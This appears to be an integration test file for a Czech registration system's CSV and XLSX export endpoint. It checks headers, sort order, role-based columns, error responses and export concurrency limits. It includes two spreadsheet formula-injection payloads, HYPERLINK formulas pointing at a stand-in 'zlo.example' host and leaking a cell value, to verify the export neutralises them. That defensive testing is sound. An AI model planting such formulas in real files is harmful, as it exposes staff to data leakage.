// GET /api/registrations/export over real HTTP: the CSV and XLSX files staff download, exactly what
// the grid's search finds in its order, with Czech headers, formula-safe, and who may have them.
import { errorMessage, FilterErrorCode, pragueToday, RegistrationErrorCode, RequestErrorCode } from '@kurzy/common';
import ExcelJS from 'exceljs';
import { NOT_LOGGED_IN } from '../../core/actor';
import { testConfig } from '../../test/config';
import { createTestDatabase, TestDatabase } from '../../test/database';
import {
  insertBranch,
  insertCamp,
  insertCourse,
  insertCustomer,
  insertRegistration,
  insertSchedule,
} from '../../test/fixtures';
import { RunningApp, staffHeaders, startTestApp } from '../../test/http';
import { MAX_RUNNING_EXPORTS } from './registration.export';

let database: TestDatabase;
let app: RunningApp;
let admin: Record<string, string>;
let lector: Record<string, string>;

const HOSTILE = '=HYPERLINK("http://zlo.example/?x="&A1;"Klikněte")';
/** A formula after a comma: a spreadsheet set to commas splits the note there (issue 21). */
const NOTE = 'Alergie; "ořechy"\r\nDruhý řádek,=HYPERLINK("http://zlo.example")';
const HEADER =
  'Přihlášeno;Ke kontrole;Dítě;Narozeno;Rodič;E-mail;Telefon;Typ;Kroužek / tábor;Pobočka;Termín;Náhradník;' +
  'Platba;Náhrady;VS;Faktura;Zrušeno;Souhlas s foto;Poznámka';
const VS = 14; // the column of the variable symbol
const MAKEUPS = 13; // the column of the make-up credits (administrators only)

beforeAll(async () => {
  database = await createTestDatabase();
  app = await startTestApp(database, await testConfig());
  admin = await staffHeaders(app, database, 'administrator');
  lector = await staffHeaders(app, database, 'lector');
  const branchId = await insertBranch(database, { title: 'Brno-Líšeň' });
  const courseId = await insertCourse(database, { title: 'Keramika' });
  const scheduleId = await insertSchedule(database, { course_id: courseId, branch_id: branchId, day_of_week: 3 });
  const campId = await insertCamp(database, { title: 'Tábor u rybníka', branch_id: branchId });
  const customerId = await insertCustomer(database, {
    first_name: 'Janka',
    last_name: 'Nováková',
    phone: '+420 777 123 456',
  });
  const withCredits = await insertRegistration(database, {
    schedule_id: scheduleId,
    child_full_name: HOSTILE,
    note: NOTE,
    customer_id: customerId,
    created_at: '2026-11-20T10:00:00Z',
  });
  // Two credits: one available, one past its expiry (expired as of now, not yet written down).
  await database.dataSource.query(
    `INSERT INTO makeup_credit (registration_id, origin, state, expires_at, reason) VALUES
       ($1, 'staff', 'available', now() + interval '30 days', 'Nemoc lektora'),
       ($1, 'staff', 'available', now() - interval '1 minute', 'Dřívější')`,
    [withCredits],
  );
  const names = ['Žofie Malá', 'Adam Veselý', 'Čeněk Dvořák', 'Bára Svobodová', 'Ema Králová'];
  for (const [index, name] of names.entries())
    await insertRegistration(database, {
      camp_id: campId,
      child_full_name: name,
      payment_state: index % 2 === 0 ? 'paid' : 'unpaid',
      photo_consent: true,
      created_at: `2026-11-2${index}T09:00:00Z`,
    });
  await insertRegistration(database, {
    camp_id: campId,
    child_full_name: 'Zrušená Nová',
    cancelled_at: '2026-11-25T12:00:00Z',
  });
});
afterAll(async () => {
  await app.close();
  await database.drop();
});

const exportUrl = (query: Record<string, string>) =>
  `${app.url}/api/registrations/export?${new URLSearchParams(query).toString()}`;

async function download(query: Record<string, string>, headers = admin) {
  const response = await fetch(exportUrl(query), { headers });
  return { response, bytes: Buffer.from(await response.arrayBuffer()) };
}

/** RFC 4180 with `;`: quoted cells may hold the separator, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ';') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 1;
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

async function csvRows(query: Record<string, string>) {
  const { response, bytes } = await download({ ...query, format: 'csv' });
  expect(response.status).toBe(200);
  return parseCsv(bytes.toString('utf8').replace(/^\uFEFF/, ''));
}

/** The variable symbols the grid's search finds for the filter and sort, in its order. */
async function searchedVs(filter: Record<string, unknown>, sort?: { field: string; direction: string }) {
  const { body } = await app.graphql<{ searchRegistrations: { items: { variableSymbol: string }[] } }>(
    `query ($f: RegistrationFilter, $s: RegistrationSort) {
       searchRegistrations(filter: $f, sort: $s, limit: 100) { items { variableSymbol } } }`,
    { f: filter, s: sort ?? null },
    admin,
  );
  return body.data!.searchRegistrations.items.map((item) => item.variableSymbol);
}

describe('the CSV export', () => {
  it('is a dated attachment: UTF-8 with a byte order mark, `;`-separated, with Czech headers', async () => {
    const { response, bytes } = await download({ format: 'csv' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="prihlasky-${pragueToday()}.csv"`);
    expect(response.headers.get('cache-control')).toBe('private, no-store');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text.split('\r\n')[0]).toBe(
      HEADER.split(';')
        .map((cell) => `"${cell}"`)
        .join(';'),
    );
    expect(parseCsv(text)).toHaveLength(1 + 7);
  });

  it('keeps a formula a parent typed from running, and quotes separators, quotes and line breaks', async () => {
    const { bytes } = await download({ format: 'csv' });
    const text = bytes.toString('utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://zlo.example/?x=""&A1;""Klikněte"")"`);
    const hostile = parseCsv(text.slice(1)).find((row) => row[2]?.includes('HYPERLINK'))!;
    expect(hostile[2]).toBe(`'${HOSTILE}`);
    expect(hostile[18]).toBe('Alergie; "ořechy"\r\nDruhý řádek,\'=HYPERLINK("http://zlo.example")');
    expect(hostile.slice(0, 2)).toEqual(['20.11.2026', 'Kontakt se liší od zákazníka: Jméno rodiče']);
    expect(hostile.slice(7, 13)).toEqual([
      'Kroužek',
      'Keramika',
      'Brno-Líšeň',
      'Středa 16:00–16:45',
      'Ne',
      'Nezaplaceno',
    ]);
  });

  it('holds exactly what the filter finds, in the search order: by default the newest first', async () => {
    for (const filter of [{}, { type: 'camp', cancelled: false }, { paymentState: 'paid' }, { text: 'nová' }]) {
      const query = Object.fromEntries(Object.entries(filter).map(([name, value]) => [name, String(value)]));
      const rows = (await csvRows(query)).slice(1);
      expect(rows.map((row) => row[VS])).toEqual(await searchedVs(filter));
    }
    const camps = (await csvRows({ type: 'camp', cancelled: 'false' })).slice(1);
    expect(camps).toHaveLength(5);
    expect(camps.every((row) => row[16] === '' && row[7] === 'Tábor' && row[MAKEUPS] === '')).toBe(true);
    const none = await csvRows({ text: 'nikdo takový' });
    expect(none).toEqual([HEADER.split(';')]);
  });

  it('follows the sort the grid asks for (the child by surname, in Czech alphabetical order)', async () => {
    const rows = (await csvRows({ type: 'camp', sort: 'childFullName', direction: 'asc' })).slice(1);
    expect(rows.map((row) => row[2])).toEqual([
      'Čeněk Dvořák',
      'Ema Králová',
      'Žofie Malá',
      'Zrušená Nová',
      'Bára Svobodová',
      'Adam Veselý',
    ]);
    const descending = await csvRows({ sort: 'childFullName', direction: 'desc' });
    expect(descending.slice(1).map((row) => row[VS])).toEqual(
      await searchedVs({}, { field: 'childFullName', direction: 'desc' }),
    );
  });
});

describe('the XLSX export', () => {
  it('opens in a spreadsheet reader with the same rows, the parent’s formula as plain text', async () => {
    const query = { sort: 'createdAt', direction: 'asc' };
    const { response, bytes } = await download({ ...query, format: 'xlsx' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="prihlasky-${pragueToday()}.xlsx"`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Přihlášky');
    const cells: string[][] = [];
    sheet.eachRow({ includeEmpty: true }, (row) => {
      cells.push(Array.from({ length: 19 }, (_, index) => row.getCell(index + 1).text));
    });
    const csv = await csvRows(query);
    // The same cells. CSV alone needs the apostrophe that keeps a formula from running; XML reads a
    // line break as LF.
    const asInXlsx = (cell: string) =>
      cell
        .replace(/^'(?=[=+\-@\t\r])/, '')
        .replace(/([,;\t\r\n|] *)'(?=[=+\-@])/g, '$1')
        .replace(/\r\n/g, '\n');
    expect(cells).toEqual(csv.map((row) => row.map(asInXlsx)));
    const hostileRow = cells.findIndex((row) => row[2]?.includes('HYPERLINK')) + 1;
    const hostile = sheet.getRow(hostileRow).getCell(3);
    expect(hostile.value).toBe(HOSTILE);
    expect(hostile.type).toBe(ExcelJS.ValueType.String);
    expect(hostile.formula).toBeUndefined();
  });
});

describe('who may export, and refusals', () => {
  it('lectors may (they read registrations), without the payment state and the make-up credits; anonymous callers get 401 in Czech', async () => {
    const byLector = await download({ format: 'csv' }, lector);
    expect(byLector.response.status).toBe(200);
    const lectorHeader = byLector.bytes
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .split('\r\n')[0]!;
    expect(parseCsv(lectorHeader)[0]).toEqual(HEADER.replace(';Platba', '').replace(';Náhrady', '').split(';'));
    // Administrators see them: available now of all the registration had.
    const [adminHeader, ...rows] = await csvRows({ type: 'course' });
    expect(adminHeader![MAKEUPS]).toBe('Náhrady');
    expect(rows.map((row) => row[MAKEUPS])).toEqual(['1 k použití z 2']);
    const anonymous = await download({ format: 'csv' }, {});
    expect(anonymous.response.status).toBe(401);
    expect(JSON.parse(anonymous.bytes.toString())).toEqual({ code: 'AUTH_NOT_LOGGED_IN', message: NOT_LOGGED_IN });
    expect(anonymous.response.headers.get('content-disposition')).toBeNull();
  });

  it('refuses a bad format, sort or filter with 400 and a Czech message naming the field', async () => {
    const refusals: [Record<string, string>, string, string | null][] = [
      [{ format: 'pdf' }, errorMessage(RegistrationErrorCode.ExportFormat), 'format'],
      [{ sort: 'note' }, errorMessage(RequestErrorCode.CannotSort), 'sort'],
      [{ sort: 'email', direction: 'nahoru' }, errorMessage(RegistrationErrorCode.ExportSortDirection), 'direction'],
      [{ createdAt: '2026-02-30' }, errorMessage(FilterErrorCode.NotADay, { field: 'createdAt' }), 'createdAt'],
      [{ id: 'abc' }, errorMessage(FilterErrorCode.InvalidValues, { fields: ['id'] }), 'id'],
    ];
    for (const [query, message, field] of refusals) {
      const { response, bytes } = await download({ format: 'csv', ...query });
      expect({ query, status: response.status }).toEqual({ query, status: 400 });
      expect(response.headers.get('content-disposition')).toBeNull();
      const body = JSON.parse(bytes.toString());
      expect(body.message).toBe(message);
      if (field) expect(Object.keys(body.errors ?? {})).toContain(field);
    }
  });
});

describe('at size', () => {
  const MANY = 30_000;
  beforeAll(async () => {
    const [{ id: campId }] = await database.dataSource.query(`SELECT id FROM camp LIMIT 1`);
    const [{ id: customerId }] = await database.dataSource.query(`SELECT id FROM customer LIMIT 1`);
    await database.dataSource.query(
      `INSERT INTO registration (parent_first_name, parent_last_name, email, phone, child_full_name, child_born_year,
         personal_data_consent, type, camp_id, customer_id)
       SELECT 'Petr', 'Hromadný', 'hromadny' || n || '@example.com', '+420 777 000 000', 'Dítě ' || n, '2019-05-01',
         true, 'camp', $1, $2
       FROM generate_series(1, ${MANY}) n`,
      [campId, customerId],
    );
  });

  it('streams every row of a large result (more than any page)', async () => {
    const rows = await csvRows({ text: 'hromadný' });
    expect(rows).toHaveLength(1 + MANY);
    expect(new Set(rows.slice(1).map((row) => row[VS])).size).toBe(MANY);
  });

  /** Asks for an export until one is let through: exports just abandoned end once the server sees
   * their connection closed. */
  async function exportWhenFree(query: Record<string, string>) {
    for (let attempt = 0; ; attempt += 1) {
      const controller = new AbortController();
      const response = await fetch(exportUrl(query), { headers: admin, signal: controller.signal });
      if (response.status !== 429 || attempt === 100) return { response, controller };
      await response.arrayBuffer();
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  }

  it('a client that stops reading halfway frees its export: many more exports run after it', async () => {
    for (let round = 0; round < MAX_RUNNING_EXPORTS + 2; round += 1) {
      const { response, controller } = await exportWhenFree({ text: 'hromadný', format: round % 2 ? 'xlsx' : 'csv' });
      expect(response.status).toBe(200);
      const reader = response.body!.getReader();
      await reader.read();
      controller.abort();
      await reader.closed.catch(() => undefined);
    }
    const { response } = await exportWhenFree({ text: 'hromadný', sort: 'variableSymbol', format: 'csv' });
    const rows = parseCsv(
      Buffer.from(await response.arrayBuffer())
        .toString('utf8')
        .slice(1),
    );
    expect(rows).toHaveLength(1 + MANY);
  });

  it('answers 429 beyond the exports that may run at once, counted over every instance; the refused one changes nothing', async () => {
    // Another instance of the app on the same database: the slots are shared through PostgreSQL.
    const second = await startTestApp(database, await testConfig());
    // The table locked: the exports let in wait for their first rows, each counted as running.
    const lock = database.dataSource.createQueryRunner();
    await lock.startTransaction();
    await lock.query('LOCK TABLE registration IN ACCESS EXCLUSIVE MODE');
    const waiting = Array.from({ length: MAX_RUNNING_EXPORTS }, () =>
      fetch(exportUrl({ text: 'Žofie', format: 'csv' }), { headers: admin }).then(async (response) => ({
        status: response.status,
        text: await response.text(),
      })),
    );
    try {
      for (;;) {
        const [{ count }] = await database.dataSource.query(
          `SELECT count(*)::int AS count FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND query LIKE '%AS "childFullName"%'`,
        );
        if (count === MAX_RUNNING_EXPORTS) break;
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      const refused = await fetch(exportUrl({ format: 'csv', text: 'Žofie' }).replace(app.url, second.url), {
        headers: admin,
      });
      expect(refused.status).toBe(429);
      expect(((await refused.json()) as { message: string }).message).toBe(
        errorMessage(RegistrationErrorCode.ExportsBusy),
      );
    } finally {
      await lock.commitTransaction();
      await lock.release();
      await second.close();
    }
    for (const { status, text } of await Promise.all(waiting)) {
      expect(status).toBe(200);
      expect(parseCsv(text.replace(/^\uFEFF/, ''))).toHaveLength(2);
    }
    expect((await download({ format: 'csv', text: 'Žofie' })).response.status).toBe(200);
  });
});
